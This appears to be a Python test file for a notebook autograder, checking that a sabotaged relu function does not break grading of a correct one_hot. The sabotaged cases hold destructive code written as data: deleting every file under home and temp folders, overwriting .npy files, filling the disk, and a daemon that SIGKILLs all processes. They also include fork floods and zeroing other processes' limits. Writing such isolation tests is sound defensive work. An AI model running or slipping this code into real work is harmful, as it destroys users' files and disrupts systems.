"""Faults of one function that must not cost another one of the same notebook its points."""

from __future__ import annotations

from corpus.case import FULL, MAY, answers

F = "faults"
READS_A_FILE = """
np.save("eye.npy", np.eye(20))

def one_hot(y, K):
    np.save("last.npy", y)
    return np.load("eye.npy")[:K, :K][np.load("last.npy")]
"""


def neighbour(name: str, about: str, body: str, relu_test: float = 0.0) -> None:
    """relu does this when it is called; one_hot, which needs its files, is right."""
    lines = "\n".join(f"    {line}" for line in body.strip("\n").splitlines())
    relu = "import os, shutil, signal, sys, tempfile, time\n\n" + f"def relu(Z):\n{lines}\n"
    # The files are written before relu is ever called.
    relu = READS_A_FILE + relu
    answers(F, name, about, FULL | {"relu_test": relu_test}, MAY, relu=relu, one_hot="# above")


neighbour(
    "fills_the_disk_for_others",
    "A call fills the private disk, under every name it can find.",
    """
for place in (os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~"), "/tmp", "/dev/shm"):
    try:
        with open(os.path.join(place, f"filler-{os.getpid()}"), "wb") as file:
            for _ in range(200):
                file.write(bytes(2**20))
    except OSError:
        pass
""",
)
neighbour(
    "removes_the_files_of_others",
    "A call removes every file that it may remove; its result is right.",
    """
for place in ("/tmp", tempfile.gettempdir(), os.getcwd(), os.path.expanduser("~")):
    for folder, _, files in os.walk(place):
        for name in files:
            try:
                os.remove(os.path.join(folder, name))
            except OSError:
                pass
return np.maximum(Z, 0)
""",
    4.0,
)
neighbour(
    "spoils_the_files_of_others",
    "A call overwrites every array file that it can find; its result is right.",
    """
for place in ("/tmp", tempfile.gettempdir(), os.getcwd()):
    for folder, _, files in os.walk(place):
        for name in files:
            if name.endswith(".npy"):
                np.save(os.path.join(folder, name), np.zeros((20, 20)))
return np.maximum(Z, 0)
""",
    4.0,
)
neighbour(
    "daemon_that_kills_others",
    "A call leaves a daemon that kills whatever it may, again and again.",
    """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        me = os.getpid()
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        for _ in range(4000):
            for pid in range(2, 2000):
                if pid != me:
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.001)
    os._exit(0)
return None
""",
)
neighbour(
    "daemons_that_fill_the_place",
    "A call leaves as many sleeping daemons as are allowed.",
    """
try:
    for _ in range(1000):
        if os.fork() == 0:
            os.setsid()
            time.sleep(3600)
            os._exit(0)
except OSError:
    pass
return np.maximum(Z, 0)
""",
    4.0,
)
neighbour(
    "changes_the_main_process",
    "A call lowers limits and priorities of every process that it may change.",
    """
import resource
for pid in range(1, 300):
    for which in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
        try:
            if pid != os.getpid():
                resource.prlimit(pid, which, (0, 0))
        except (OSError, ValueError):
            pass
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        os.sched_setaffinity(pid, {0})
    except (OSError, ValueError):
        pass
return np.maximum(Z, 0)
""",
    4.0,
)
neighbour(
    "changes_its_modules",
    "A call breaks numpy for the whole process; its result is right.",
    """
out = np.maximum(Z, 0).tolist()
for name in ("eye", "load", "save", "exp", "asarray", "array"):
    setattr(np, name, None)
return out
""",
    4.0,
)
